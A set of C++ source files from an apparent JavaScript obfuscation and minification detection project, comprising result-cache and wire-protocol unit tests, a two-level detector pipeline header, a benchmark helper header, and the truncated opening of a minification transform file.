  analysis::ResultCache::Config config;
  const analysis::ScriptOutcome outcome = analyze_outcome_of("var a = 1;");
  const std::size_t one_entry_bytes =
      analysis::wire::script_outcome_json(outcome).size() + 64;
  config.max_bytes = one_entry_bytes * 3;  // room for ~3 entries
  analysis::ResultCache cache(config);
  for (int i = 0; i < 8; ++i) {
    cache.store("key-" + std::to_string(i), outcome);
  }
  const analysis::ResultCache::Counters counters = cache.counters();
  EXPECT_GT(counters.evictions, 0u);
  EXPECT_LT(counters.entries, 8u);
  EXPECT_LE(counters.bytes, config.max_bytes);
  // Newest still resident; oldest gone (memory-only cache: gone = gone).
  EXPECT_TRUE(cache.contains("key-7"));
  EXPECT_FALSE(cache.contains("key-0"));
}

// --- disk tier -------------------------------------------------------------

TEST(ResultCacheDisk, SurvivesRestartBitIdentically) {
  TempDir dir;
  const analysis::ScriptOutcome outcome =
      analyze_outcome_of("var persisted = 42;");
  const std::string json = analysis::wire::script_outcome_json(outcome);
  {
    analysis::ResultCache cache({dir.path, std::size_t{64} << 20});
    ASSERT_TRUE(cache.load_error().empty()) << cache.load_error();
    cache.store("persist-key", outcome);
  }
  analysis::ResultCache reopened({dir.path, std::size_t{64} << 20});
  EXPECT_TRUE(reopened.load_error().empty()) << reopened.load_error();
  EXPECT_EQ(reopened.counters().disk_records, 1u);
  const std::optional<analysis::ScriptOutcome> hit =
      reopened.lookup("persist-key");
  ASSERT_TRUE(hit.has_value());
  EXPECT_EQ(analysis::wire::script_outcome_json(*hit), json);
}

TEST(ResultCacheDisk, MemoryEvictionFallsBackToDisk) {
  TempDir dir;
  const analysis::ScriptOutcome outcome = analyze_outcome_of("var a = 1;");
  analysis::ResultCache::Config config;
  config.dir = dir.path;
  config.max_bytes =
      (analysis::wire::script_outcome_json(outcome).size() + 64) * 2;
  analysis::ResultCache cache(config);
  for (int i = 0; i < 6; ++i) {
    cache.store("spill-" + std::to_string(i), outcome);
  }
  ASSERT_GT(cache.counters().evictions, 0u);
  // Evicted from memory, but the disk tier still resolves it — and the
  // lookup counts as a hit, then promotes back into memory.
  const std::uint64_t hits_before = cache.counters().hits;
  const std::optional<analysis::ScriptOutcome> hit = cache.lookup("spill-0");
  ASSERT_TRUE(hit.has_value());
  EXPECT_EQ(cache.counters().hits, hits_before + 1);
  EXPECT_EQ(analysis::wire::script_outcome_json(*hit),
            analysis::wire::script_outcome_json(outcome));
}

TEST(ResultCacheDisk, LastRecordWinsOnReload) {
  TempDir dir;
  const analysis::ScriptOutcome first = analyze_outcome_of("var a = 1;");
  const analysis::ScriptOutcome second =
      analyze_outcome_of("var bbbb = 2; function g(x) { return x; } g(2);");
  ASSERT_NE(analysis::wire::script_outcome_json(first),
            analysis::wire::script_outcome_json(second));
  {
    analysis::ResultCache cache({dir.path, std::size_t{64} << 20});
    cache.store("dup-key", first);
    cache.store("dup-key", second);  // refresh path: append, not rewrite
  }
  analysis::ResultCache reopened({dir.path, std::size_t{64} << 20});
  EXPECT_EQ(reopened.counters().disk_records, 1u);  // one live key
  const std::optional<analysis::ScriptOutcome> hit =
      reopened.lookup("dup-key");
  ASSERT_TRUE(hit.has_value());
  EXPECT_EQ(analysis::wire::script_outcome_json(*hit),
            analysis::wire::script_outcome_json(second));
}

TEST(ResultCacheDisk, TornTailTruncatesToLastGoodRecord) {
  TempDir dir;
  const analysis::ScriptOutcome outcome = analyze_outcome_of("var a = 1;");
  std::string record_path;
  std::size_t good_size = 0;
  {
    analysis::ResultCache cache({dir.path, std::size_t{64} << 20});
    for (int i = 0; i < 3; ++i) {
      cache.store("good-" + std::to_string(i), outcome);
    }
    record_path = cache.path();
  }
  good_size = file_contents(record_path).size();
  {
    // Simulate a crash mid-append: a torn, unterminated record tail.
    std::ofstream out(record_path, std::ios::app | std::ios::binary);
    out << "{\"key\":\"torn-key\",\"outcome\":{\"status\":\"ok";
  }
  analysis::ResultCache recovered({dir.path, std::size_t{64} << 20});
  // The torn record is diagnosed and truncated away; the good prefix
  // survives intact.
  EXPECT_FALSE(recovered.load_error().empty());
  EXPECT_EQ(recovered.counters().disk_records, 3u);
  EXPECT_FALSE(recovered.contains("torn-key"));
  for (int i = 0; i < 3; ++i) {
    EXPECT_TRUE(recovered.contains("good-" + std::to_string(i)));
  }
  EXPECT_EQ(file_contents(record_path).size(), good_size);
  // And the truncated file appends cleanly again.
  recovered.store("after-recovery", outcome);
  analysis::ResultCache again({dir.path, std::size_t{64} << 20});
  EXPECT_TRUE(again.load_error().empty()) << again.load_error();
  EXPECT_EQ(again.counters().disk_records, 4u);
}

TEST(ResultCacheDisk, ForeignHeaderDiscardsFile) {
  TempDir dir;
  const std::string record_path = dir.path + "/results.ndjson";
  {
    std::ofstream out(record_path, std::ios::binary);
    out << "{\"magic\":\"jstcache\",\"version\":999,\"wire\":999}\n"
        << "{\"key\":\"old-schema\",\"outcome\":{}}\n";
  }
  analysis::ResultCache cache({dir.path, std::size_t{64} << 20});
  EXPECT_FALSE(cache.load_error().empty());
  EXPECT_EQ(cache.counters().disk_records, 0u);
  EXPECT_FALSE(cache.contains("old-schema"));
  // The file was re-headered for the current schema and is usable.
  const analysis::ScriptOutcome outcome = analyze_outcome_of("var a = 1;");
  cache.store("fresh", outcome);
  analysis::ResultCache reopened({dir.path, std::size_t{64} << 20});
  EXPECT_TRUE(reopened.load_error().empty()) << reopened.load_error();
  EXPECT_TRUE(reopened.contains("fresh"));
}

// --- cache-aware service path ---------------------------------------------

TEST(ServiceCache, SecondPassHitsAreByteIdentical) {
  analysis::ResultCache cache({});
  const analysis::AnalyzerService service(shared_analyzer(), &cache);
  const std::vector<analysis::AnalyzeRequest> requests =
      analysis::make_source_requests(seed_corpus());

  analysis::BatchOptions serial;
  serial.threads = 1;
  const analysis::BatchResponse cold = service.analyze_batch(requests, serial);
  const analysis::ResultCache::Counters after_cold = cache.counters();
  EXPECT_EQ(after_cold.misses, requests.size());
  EXPECT_EQ(after_cold.hits, 0u);

  const analysis::BatchResponse warm = service.analyze_batch(requests, serial);
  const analysis::ResultCache::Counters after_warm = cache.counters();
  // The acceptance gate: hit count equals the repeat count.
  EXPECT_EQ(after_warm.hits, requests.size());
  EXPECT_EQ(after_warm.misses, after_cold.misses);

  ASSERT_EQ(cold.responses.size(), warm.responses.size());
  for (std::size_t i = 0; i < cold.responses.size(); ++i) {
    EXPECT_EQ(cold.responses[i].cache, analysis::CacheState::kMiss) << i;
    EXPECT_EQ(warm.responses[i].cache, analysis::CacheState::kHit) << i;
    // A hit returns the stored outcome — original timings included, so
    // the bytes match without stripping.
    EXPECT_EQ(warm.responses[i].outcome.to_json(),
              cold.responses[i].outcome.to_json())
        << "script " << i;
  }
  // Batch stats over hits tally statuses exactly like the cold pass.
  EXPECT_EQ(warm.stats.ok, cold.stats.ok);
  EXPECT_EQ(warm.stats.parse_errors, cold.stats.parse_errors);
  EXPECT_EQ(warm.stats.total, cold.stats.total);
}

void expect_cache_on_off_bit_identical(std::size_t threads) {
  analysis::ResultCache cache({});
  const analysis::AnalyzerService cached(shared_analyzer(), &cache);
  const analysis::AnalyzerService plain(shared_analyzer());
  const std::vector<analysis::AnalyzeRequest> requests =
      analysis::make_source_requests(seed_corpus());
  analysis::BatchOptions options;
  options.threads = threads;

  const analysis::BatchResponse off = plain.analyze_batch(requests, options);
  const analysis::BatchResponse miss = cached.analyze_batch(requests, options);
  const analysis::BatchResponse hit = cached.analyze_batch(requests, options);
  ASSERT_EQ(off.responses.size(), miss.responses.size());
  ASSERT_EQ(off.responses.size(), hit.responses.size());
  for (std::size_t i = 0; i < off.responses.size(); ++i) {
    const std::string baseline = strip_timing(off.responses[i].outcome.to_json());
    EXPECT_EQ(strip_timing(miss.responses[i].outcome.to_json()), baseline)
        << "miss path, script " << i << " threads=" << threads;
    EXPECT_EQ(strip_timing(hit.responses[i].outcome.to_json()), baseline)
        << "hit path, script " << i << " threads=" << threads;
    EXPECT_EQ(off.responses[i].cache, analysis::CacheState::kNone);
  }
}

TEST(ServiceCache, CacheOnOffBitIdenticalSerial) {
  expect_cache_on_off_bit_identical(1);
}

TEST(ServiceCache, CacheOnOffBitIdenticalFourThreads) {
  expect_cache_on_off_bit_identical(4);
}

TEST(ServiceCache, ModelFingerprintIsolatesEntries) {
  analysis::ResultCache cache({});
  const analysis::AnalyzerService a(shared_analyzer(), &cache);
  const analysis::AnalyzerService b(other_analyzer(), &cache);
  ASSERT_FALSE(a.model_fingerprint().empty());
  ASSERT_FALSE(b.model_fingerprint().empty());
  EXPECT_NE(a.model_fingerprint(), b.model_fingerprint());

  const analysis::AnalyzeRequest request =
      analysis::AnalyzeRequest::for_source(seed_corpus()[0]);
  EXPECT_EQ(a.analyze(request).cache, analysis::CacheState::kMiss);
  // Same source, same shared cache — but a different model fingerprint,
  // so service b must not see service a's entry.
  EXPECT_EQ(b.analyze(request).cache, analysis::CacheState::kMiss);
  EXPECT_EQ(a.analyze(request).cache, analysis::CacheState::kHit);
  EXPECT_EQ(b.analyze(request).cache, analysis::CacheState::kHit);
  EXPECT_EQ(cache.counters().stores, 2u);
}

TEST(ServiceCache, LimitsFingerprintIsolatesEntries) {
  analysis::ResultCache cache({});
  const analysis::AnalyzerService service(shared_analyzer(), &cache);
  const std::string source = seed_corpus()[0];

  analysis::AnalyzeRequest ungoverned =
      analysis::AnalyzeRequest::for_source(source);
  analysis::AnalyzeRequest governed =
      analysis::AnalyzeRequest::for_source(source);
  ResourceLimits tiny;
  tiny.max_source_bytes = 16;
  governed.limits = tiny;

  const analysis::AnalyzeResponse free_run = service.analyze(ungoverned);
  EXPECT_EQ(free_run.cache, analysis::CacheState::kMiss);
  EXPECT_EQ(free_run.outcome.status, analysis::ScriptStatus::kOk);
  // Different limits → different key → a miss, and a different outcome.
  const analysis::AnalyzeResponse clipped = service.analyze(governed);
  EXPECT_EQ(clipped.cache, analysis::CacheState::kMiss);
  EXPECT_EQ(clipped.outcome.status, analysis::ScriptStatus::kIneligibleSize);
  // Each key replays its own outcome.
  EXPECT_EQ(service.analyze(ungoverned).outcome.status,
            analysis::ScriptStatus::kOk);
  const analysis::AnalyzeResponse clipped_again = service.analyze(governed);
  EXPECT_EQ(clipped_again.cache, analysis::CacheState::kHit);
  EXPECT_EQ(clipped_again.outcome.status,
            analysis::ScriptStatus::kIneligibleSize);
}

TEST(ServiceCache, BypassAndRefreshSemantics) {
  analysis::ResultCache cache({});
  const analysis::AnalyzerService service(shared_analyzer(), &cache);
  const std::string source = seed_corpus()[1];

  analysis::AnalyzeRequest bypass =
      analysis::AnalyzeRequest::for_source(source);
  bypass.cache_mode = CacheMode::kBypass;
  const analysis::AnalyzeResponse bypassed = service.analyze(bypass);
  EXPECT_EQ(bypassed.cache, analysis::CacheState::kBypass);
  EXPECT_EQ(cache.counters().bypasses, 1u);
  EXPECT_EQ(cache.counters().stores, 0u);  // bypass never stores

  analysis::AnalyzeRequest refresh =
      analysis::AnalyzeRequest::for_source(source);
  refresh.cache_mode = CacheMode::kRefresh;
  // Refresh over an absent entry is a miss that stores.
  EXPECT_EQ(service.analyze(refresh).cache, analysis::CacheState::kMiss);
  EXPECT_EQ(cache.counters().stores, 1u);
  // Refresh over an existing entry recomputes and overwrites.
  EXPECT_EQ(service.analyze(refresh).cache, analysis::CacheState::kStale);
  EXPECT_EQ(cache.counters().stores, 2u);
  // The entry is live for default-mode readers.
  EXPECT_EQ(service.analyze(analysis::AnalyzeRequest::for_source(source)).cache,
            analysis::CacheState::kHit);
}

TEST(ServiceCache, UnsettledOutcomesAreNeverServedFromCache) {
  analysis::ResultCache cache({});
  const analysis::AnalyzerService service(shared_analyzer(), &cache);
  // Large enough to pass the size-eligibility gate, so the 1e-9 deadline
  // is what trips — as kDeadlineExceeded or kDegraded depending on which
  // checkpoint notices first. Either way the outcome is unsettled.
  std::string source = "var total = 0;\n";
  for (int i = 0; i < 40; ++i) {
    source += "function f" + std::to_string(i) + "(a) { return a + " +
              std::to_string(i) + "; } total += f" + std::to_string(i) +
              "(" + std::to_string(i) + ");\n";
  }
  analysis::AnalyzeRequest request =
      analysis::AnalyzeRequest::for_source(source);
  ResourceLimits limits;
  limits.deadline_ms = 1e-9;
  request.limits = limits;

  const analysis::AnalyzeResponse first = service.analyze(request);
  EXPECT_EQ(first.cache, analysis::CacheState::kMiss);
  EXPECT_FALSE(analysis::ResultCache::cacheable(first.outcome))
      << first.outcome.to_json();
  EXPECT_EQ(cache.counters().stores, 0u);
  // The unsettled outcome was not stored: the repeat misses again.
  const analysis::AnalyzeResponse second = service.analyze(request);
  EXPECT_EQ(second.cache, analysis::CacheState::kMiss);
  EXPECT_EQ(cache.counters().entries, 0u);
}

// --- wire v3 ---------------------------------------------------------------

TEST(WireV3, CacheModeRoundTripsAndDefaultStaysOffTheWire) {
  analysis::AnalyzeRequest request =
      analysis::AnalyzeRequest::for_source("var x = 1;", "req-1");
  const std::string default_line =
      analysis::wire::analyze_request_json(request);
  EXPECT_EQ(default_line.find("cache_mode"), std::string::npos);

  request.cache_mode = CacheMode::kRefresh;
  const std::string refresh_line =
      analysis::wire::analyze_request_json(request);
  EXPECT_NE(refresh_line.find("\"cache_mode\":\"refresh\""),
            std::string::npos);
  std::string error;
  const std::optional<analysis::AnalyzeRequest> parsed =
      analysis::wire::parse_analyze_request(refresh_line, &error);
  ASSERT_TRUE(parsed.has_value()) << error;
  EXPECT_EQ(parsed->cache_mode, CacheMode::kRefresh);
  EXPECT_EQ(parsed->source, "var x = 1;");

  const std::optional<analysis::AnalyzeRequest> defaulted =
      analysis::wire::parse_analyze_request(default_line, &error);
  ASSERT_TRUE(defaulted.has_value()) << error;
  EXPECT_EQ(defaulted->cache_mode, CacheMode::kDefault);
}

TEST(WireV3, PinnedOlderVersionRejectsCacheMode) {
  std::string error;
  for (const char* version : {"1", "2"}) {
    const std::string line = std::string("{\"v\":") + version +
                             ",\"source\":\"var x = 1;\","
                             "\"cache_mode\":\"bypass\"}";
    error.clear();
    const std::optional<analysis::AnalyzeRequest> parsed =
        analysis::wire::parse_analyze_request(line, &error);
    EXPECT_FALSE(parsed.has_value()) << "pinned v" << version;
    EXPECT_NE(error.find("cache_mode"), std::string::npos) << error;
    EXPECT_NE(error.find("v3"), std::string::npos) << error;
  }
  // Unpinned (current version) accepts it.
  const std::optional<analysis::AnalyzeRequest> current =
      analysis::wire::parse_analyze_request(
          "{\"source\":\"var x = 1;\",\"cache_mode\":\"bypass\"}", &error);
  ASSERT_TRUE(current.has_value()) << error;
  EXPECT_EQ(current->cache_mode, CacheMode::kBypass);
  // Unknown mode strings are diagnosed.
  EXPECT_FALSE(analysis::wire::parse_analyze_request(
                   "{\"source\":\"x\",\"cache_mode\":\"sideways\"}", &error)
                   .has_value());
}

TEST(WireV3, OlderLinesParseIdenticallyAndCachelessResponsesStayClean) {
  // A v2 line (no cache fields) parses exactly as before the bump.
  std::string error;
  const std::optional<analysis::AnalyzeRequest> v2 =
      analysis::wire::parse_analyze_request(
          "{\"v\":2,\"id\":\"a\",\"source\":\"var x = 1;\"}", &error);
  ASSERT_TRUE(v2.has_value()) << error;
  EXPECT_EQ(v2->id, "a");
  EXPECT_TRUE(v2->has_source);
  EXPECT_EQ(v2->cache_mode, CacheMode::kDefault);

  // A cacheless service's response line carries no cache members at all.
  const analysis::AnalyzerService plain(shared_analyzer());
  const analysis::AnalyzeResponse response =
      plain.analyze(analysis::AnalyzeRequest::for_source("var x = 1;"));
  EXPECT_EQ(response.cache, analysis::CacheState::kNone);
  const std::string line = response.to_json();
  EXPECT_EQ(line.find("\"cache\""), std::string::npos) << line;
  EXPECT_EQ(line.find("cache_lookup_ms"), std::string::npos) << line;

  // A cached service's hit is visible to wire clients via ParsedResponse.
  analysis::ResultCache cache({});
  const analysis::AnalyzerService cached(shared_analyzer(), &cache);
  const analysis::AnalyzeRequest request =
      analysis::AnalyzeRequest::for_source("var x = 1;");
  (void)cached.analyze(request);
  const analysis::AnalyzeResponse hit = cached.analyze(request);
  EXPECT_EQ(hit.cache, analysis::CacheState::kHit);
  const std::optional<analysis::wire::ParsedResponse> parsed =
      analysis::wire::parse_analyze_response(hit.to_json(), &error);
  ASSERT_TRUE(parsed.has_value()) << error;
  EXPECT_TRUE(parsed->cache_hit());
  EXPECT_TRUE(parsed->cached());
  EXPECT_GE(parsed->cache_lookup_ms, 0.0);
}

// --- longitudinal snapshot diffing ----------------------------------------

TEST(SnapshotDiff, EvolveSnapshotIsDeterministicAndPersistenceBounded) {
  const analysis::PopulationSpec spec = analysis::alexa_month_spec(1);
  const auto seeds = analysis::simulate_population(
      analysis::alexa_month_spec(0), 32, 0x5eed);
  std::vector<std::string> previous;
  for (const analysis::Sample& sample : seeds) {
    previous.push_back(sample.source);
  }
  const std::vector<std::string> a =
      analysis::evolve_snapshot(previous, spec, 0.7, 42);
  const std::vector<std::string> b =
      analysis::evolve_snapshot(previous, spec, 0.7, 42);
  EXPECT_EQ(a, b);  // pure function of (previous, spec, persistence, seed)
  EXPECT_EQ(analysis::evolve_snapshot(previous, spec, 1.0, 42), previous);
  std::size_t kept = 0;
  for (std::size_t i = 0; i < previous.size(); ++i) {
    if (a[i] == previous[i]) ++kept;
  }
  EXPECT_GT(kept, 0u);
  EXPECT_LT(kept, previous.size());
}

TEST(SnapshotDiff, MonthOneStatsMatchBypassedFullAnalysis) {
  // The snapshot driver's month-1 gate: analyzing the first snapshot
  // through a cold cache must replicate a cache-bypassed full analysis
  // bit-for-bit (stats and outcomes, timing aside).
  const auto samples = analysis::simulate_population(
      analysis::alexa_month_spec(0), 24, 0x5eed);
  std::vector<std::string> sources;
  for (const analysis::Sample& sample : samples) {
    sources.push_back(sample.source);
  }
  analysis::BatchOptions serial;
  serial.threads = 1;

  analysis::ResultCache cache({});
  const analysis::AnalyzerService cached(shared_analyzer(), &cache);
  const analysis::BatchResponse month1 = cached.analyze_batch(
      analysis::make_source_requests(sources), serial);
  const analysis::BatchResponse bypassed = cached.analyze_batch(
      analysis::make_source_requests(sources, CacheMode::kBypass), serial);

  ASSERT_EQ(month1.responses.size(), bypassed.responses.size());
  for (std::size_t i = 0; i < month1.responses.size(); ++i) {
    EXPECT_EQ(strip_timing(month1.responses[i].outcome.to_json()),
              strip_timing(bypassed.responses[i].outcome.to_json()))
        << "script " << i;
  }
  EXPECT_EQ(month1.stats.ok, bypassed.stats.ok);
  EXPECT_EQ(month1.stats.parse_errors, bypassed.stats.parse_errors);
  EXPECT_EQ(month1.stats.ineligible_size, bypassed.stats.ineligible_size);
  EXPECT_EQ(month1.stats.ineligible_ast, bypassed.stats.ineligible_ast);
  EXPECT_EQ(month1.stats.total, bypassed.stats.total);
  // And the cache saw one miss per distinct script (repeats within the
  // snapshot hit), then one bypass per script — no cross-talk.
  std::set<std::string> distinct;
  for (const std::string& source : sources) {
    distinct.insert(analysis::content_hash(source));
  }
  EXPECT_EQ(cache.counters().misses, distinct.size());
  EXPECT_EQ(cache.counters().hits, sources.size() - distinct.size());
  EXPECT_EQ(cache.counters().bypasses, sources.size());
}

}  // namespace
}  // namespace jst
