// End-to-end trainer + analyzer: the whole §III pipeline in one object.
//
// Training mirrors §III-D2's composition at configurable scale: a regular
// corpus, one transformed pool per technique; level 1 trains on
// regular/minified/obfuscated thirds (the two minification techniques
// represented equally, likewise the eight obfuscation techniques), level 2
// trains on per-technique pools. Corpus synthesis, feature extraction, and
// forest training all run on the shared thread pool; per-sample and
// per-tree RNG streams are derived serially, so a given seed reproduces
// the same trained model for any thread count.
#pragma once

#include <iosfwd>
#include <memory>
#include <optional>
#include <string>
#include <string_view>

#include "analysis/dataset.h"
#include "analysis/detector.h"
#include "support/arena.h"
#include "support/atom.h"
#include "support/budget.h"

namespace jst::analysis {

struct PipelineOptions {
  DetectorConfig detector;
  // Number of regular base scripts synthesized for training.
  std::size_t training_regular_count = 240;
  // Per-technique transformed samples for level 2 (and pooled for level 1).
  std::size_t per_technique_count = 60;
  std::uint64_t seed = 1234;
};

// Per-script analysis disposition. Predictions are computed for every
// script that parses — including ineligible ones — so callers can decide
// whether to honor the paper's §III-D1 filter; the status records which
// criterion (if any) failed. Budget statuses record a tripped
// ResourceLimits ceiling (DESIGN.md §10): the four hard trips carry no
// predictions (the AST never fully materialized), while kBudgetDataflow
// and kDegraded are degraded outcomes that still carry whatever the
// pipeline could compute before the trip.
enum class ScriptStatus {
  kOk,              // parsed and passed the paper's eligibility filter
  kParseError,      // could not be tokenized/parsed; no predictions
  kIneligibleSize,  // outside [512 B, 2 MB], or above max_source_bytes
  kIneligibleAst,   // no conditional, function, or call node
  // Hard budget trips (no AST, no predictions; diagnostic populated).
  kBudgetTokens,      // max_tokens tripped in the lexer
  kBudgetAstNodes,    // max_ast_nodes tripped in the parser
  kBudgetDepth,       // max_ast_depth tripped in the parser
  kDeadlineExceeded,  // deadline_ms tripped in a hard stage (lex/parse/cfg)
  // Degraded outcomes (diagnostic populated, skipped stages listed).
  kBudgetDataflow,  // max_dataflow_edges tripped; edges truncated, but
                    // features + predictions were still computed
  kDegraded,        // deadline noticed at a soft checkpoint after parsing;
                    // hand-picked features emitted, later stages skipped
};

std::string_view to_string(ScriptStatus status);

// Result of analyzing one script in the wild.
struct ScriptReport {
  ScriptStatus status = ScriptStatus::kParseError;
  Level1Detector::Prediction level1;
  std::vector<double> technique_confidence;  // 10 entries
  std::vector<transform::Technique> techniques;  // thresholded top-k

  // Parsed and eligible under the paper's filter.
  bool ok() const { return status == ScriptStatus::kOk; }
  // Predictions are absent exactly when parsing failed.
  bool parse_failed() const { return status == ScriptStatus::kParseError; }
};

// Per-stage wall time of one script's analysis, in milliseconds.
struct StageTimings {
  double total_ms = 0.0;
  double static_analysis_ms = 0.0;  // lex + parse + CFG + data flow
  double features_ms = 0.0;         // 4-grams + hand-picked features
  double inference_ms = 0.0;        // level-1 + level-2 forests
};

// One script's structured outcome in the batch API: the report plus the
// failure diagnostics and timing the bool-pair convention used to drop.
struct ScriptOutcome {
  ScriptStatus status = ScriptStatus::kParseError;
  ScriptReport report;        // predictions populated whenever inference ran
  std::string error_message;  // parse/budget diagnostics; empty otherwise
  StageTimings timing;
  // Populated on every budget status: which ceiling, the configured limit,
  // the observed value, and the stage that noticed the trip.
  std::optional<BudgetTrip> budget;
  // Degraded outcomes: stages that were skipped ("dataflow", "ngrams",
  // "inference"), in pipeline order.
  std::vector<std::string> skipped_stages;
  // Degraded outcomes that skipped inference: the features that were still
  // computed (the hand-picked block when n-grams were skipped, or the full
  // row when only inference was) so callers keep a usable signal for
  // quarantined scripts.
  std::vector<float> partial_features;

  bool ok() const { return status == ScriptStatus::kOk; }
  bool parse_failed() const { return status == ScriptStatus::kParseError; }
  // Partial results under a tripped soft budget (DESIGN.md §10).
  bool degraded() const {
    return status == ScriptStatus::kDegraded ||
           status == ScriptStatus::kBudgetDataflow;
  }
  // True when level-1/level-2 inference ran and report carries predictions.
  bool has_predictions() const {
    return !report.technique_confidence.empty();
  }

  // One self-contained JSON object (status, diagnostics, timings, and the
  // report's predictions) — symmetric with BatchStats::to_json(), so
  // callers can stream per-script NDJSON without hand-rolled formatting.
  std::string to_json() const;
};

// Per-worker reusable state for the analyze fast path: the fused
// feature-extraction scratch (counters, traversal stack, n-gram ring,
// feature row, data-flow workspace) plus the compiled-inference scratch
// (chain row, probability and ranking buffers). One instance per batch
// worker thread makes the post-parse pipeline allocation-free in steady
// state; reuse and footprint are reported via jst_scratch_reuse_total
// and jst_scratch_peak_bytes.
struct ScriptScratch {
  features::ExtractScratch extract;
  ml::PredictScratch predict;
  // Pooled front-end arena: the lexer, token stream, and AST of every
  // script this worker analyzes live here. parse_program resets it (not
  // frees it) per script, so steady-state lex+parse reuses the same
  // chunks and allocates nothing. Reuse and footprint are reported via
  // jst_arena_reuse_total and jst_arena_peak_bytes.
  support::Arena arena;
  // Pooled identifier atom table, cleared per script in lockstep with the
  // arena reset (parse_program). Dense atom ids index the data-flow
  // builder's per-atom binding stacks (DESIGN.md §17).
  support::AtomTable atoms;

  std::size_t capacity_bytes() const {
    return extract.capacity_bytes() + predict.capacity_bytes() +
           arena.capacity_bytes() + atoms.capacity_bytes();
  }
};

class TransformationAnalyzer {
 public:
  explicit TransformationAnalyzer(PipelineOptions options = {});

  // Synthesizes training data and fits both detectors.
  void train();
  // Fits from an externally built corpus (regular sources only; transforms
  // are applied internally).
  void train_on(const std::vector<std::string>& regular_sources);

  bool trained() const { return trained_; }

  // Persist a trained analyzer / restore it without retraining. Every
  // component is prefixed with a versioned header (magic + format version
  // + feature dimension + forest parameters); loading under a mismatched
  // PipelineOptions throws ModelError naming the offending field.
  void save(std::ostream& out) const;
  void load(std::istream& in);

  // Full per-script report; status == kParseError on parse errors.
  ScriptReport analyze(std::string_view source) const;

  // analyze() plus parse diagnostics and per-stage timings — the unit of
  // work AnalyzerService fans out over the thread pool. The `limits`
  // overload governs the call with a per-script Budget: tripped ceilings
  // surface as budget statuses or degraded outcomes, never as exceptions
  // (a default-constructed ResourceLimits governs nothing).
  ScriptOutcome analyze_outcome(std::string_view source) const;
  ScriptOutcome analyze_outcome(std::string_view source,
                                const ResourceLimits& limits) const;
  // The fast-path overload the batch workers use: feature extraction and
  // inference run through `scratch`, whose buffer capacities persist
  // across scripts (allocation-free steady state). Results are
  // bit-identical to the scratch-less overloads, which delegate here with
  // a per-thread scratch.
  ScriptOutcome analyze_outcome(std::string_view source,
                                const ResourceLimits& limits,
                                ScriptScratch& scratch) const;

  const Level1Detector& level1() const { return level1_; }
  const Level2Detector& level2() const { return level2_; }
  const PipelineOptions& options() const { return options_; }

 private:
  PipelineOptions options_;
  Level1Detector level1_;
  Level2Detector level2_;
  bool trained_ = false;
};

}  // namespace jst::analysis
