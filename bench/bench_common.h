// Shared infrastructure for the study benches: one trained analyzer per
// process (scale via JSTRACED_BENCH_SCALE), and formatting helpers that
// print each reproduced number next to the paper's reported value.
#pragma once

#include <span>
#include <string>
#include <string_view>

#include "analysis/pipeline.h"
#include "analysis/service.h"
#include "analysis/wild.h"

namespace jst::bench {

// Scale factor: 1 = quick defaults (minutes for the full suite).
// JSTRACED_BENCH_SCALE=4 approaches paper-protocol sizes.
double scale();

// Scaled count helper.
std::size_t scaled(std::size_t base);

// Builds and trains the shared analyzer (cached per process).
const analysis::TransformationAnalyzer& analyzer();

// Fresh regular corpus disjoint from training (seeded differently).
std::vector<std::string> held_out_regular(std::size_t count,
                                          std::uint64_t seed);

// --- output helpers ---

void print_header(std::string_view title, std::string_view paper_ref);
void print_row(std::string_view metric, double paper_value,
               double measured_value, std::string_view unit = "%");
void print_note(std::string_view text);
void print_series_header(std::string_view x_label,
                         std::string_view series_names);
void print_footer();

// --- machine-readable results (BENCH_*.json) ---

// One measured configuration of a bench (e.g. one thread count of the
// batch throughput sweep).
struct BenchRecord {
  std::string config;  // human label, e.g. "threads=4"
  std::size_t threads = 1;
  std::size_t scripts = 0;  // scripts per batch for this config
  double wall_ms = 0.0;     // batch wall time for this config
  double scripts_per_second = 0.0;
  std::string stats_json;  // optional BatchStats::to_json() payload
  // Optional front-end stage split (bench_pipeline_throughput
  // --stage-split): serial milliseconds over the corpus spent in
  // tokenize-only (lex_ms), in parse_program minus the lex share
  // (parse_ms), and in everything after the parse (postparse_ms).
  // Emitted only when a split was measured.
  double lex_ms = 0.0;
  double parse_ms = 0.0;
  double postparse_ms = 0.0;
  // Post-parse decomposition (also --stage-split): postparse_ms broken
  // into the static-analysis stage (CFG + data flow + the eligibility
  // walk, static_ms), feature extraction (features_ms), and the
  // remainder of the serial batch wall (inference plus outcome
  // assembly, inference_ms). Emitted only when the decomposition was
  // measured; bench/README.md documents the capture method.
  double static_ms = 0.0;
  double features_ms = 0.0;
  double inference_ms = 0.0;
  // Optional serving-path measurements (bench_server_latency): client-
  // observed round-trip percentiles, shed fraction, and the sustained
  // request rate the closed-loop clients achieved. Emitted only when a
  // latency distribution was measured (latency_p50_ms > 0).
  double latency_p50_ms = 0.0;
  double latency_p95_ms = 0.0;
  double latency_p99_ms = 0.0;
  double shed_rate = 0.0;
  double offered_qps = 0.0;
  // Optional result-cache measurement (bench_cache): fraction of the
  // batch served from the cache for this config. Negative = not
  // measured (a measured cold pass is a legitimate 0.0).
  double cache_hit_rate = -1.0;
  // Optional byte-throughput measurement (bench_lexer): total input
  // bytes processed per pass and the resulting rate. Emitted only when
  // bytes > 0.
  std::size_t bytes = 0;
  double mb_per_second = 0.0;
};

// Writes `BENCH_<bench>.json` — {"bench":…,"scale":…,"results":[…]} —
// into $JSTRACED_BENCH_OUT (default: the working directory) so the perf
// trajectory is recorded machine-readably across PRs. Returns the path
// written, or an empty string on I/O failure (reported to stderr).
std::string write_bench_json(std::string_view bench,
                             std::span<const BenchRecord> records);

// Measured transformed-rate of a simulated population under the trained
// level-1 detector.
struct PopulationMeasurement {
  double transformed_rate = 0.0;
  double minified_rate = 0.0;
  double obfuscated_rate = 0.0;
  // Average level-2 confidence per technique over transformed scripts.
  std::vector<double> technique_confidence;
  std::size_t script_count = 0;
};

PopulationMeasurement measure_population(const analysis::PopulationSpec& spec,
                                         std::size_t count,
                                         std::uint64_t seed);

}  // namespace jst::bench
