// Minification.
//
// Simple (javascript-minifier.com tier): whitespace/comment removal (the
// printer's minified mode), local-variable shortening, empty-statement and
// trivially-unreachable-code removal.
//
// Advanced (Google Closure tier): simple + constant folding, boolean
// literal shortening (!0/!1), void 0 for undefined, if-to-ternary and
// if-to-&& rewrites, constant-branch elimination, and consecutive var
// declaration merging.
#include <cmath>
#include <unordered_set>

#include "ast/walk.h"
#include "codegen/codegen.h"
#include "parser/parser.h"
#include "transform/rename.h"
#include "transform/transform.h"

namespace jst::transform {
namespace {

bool is_number_literal(const Node* node) {
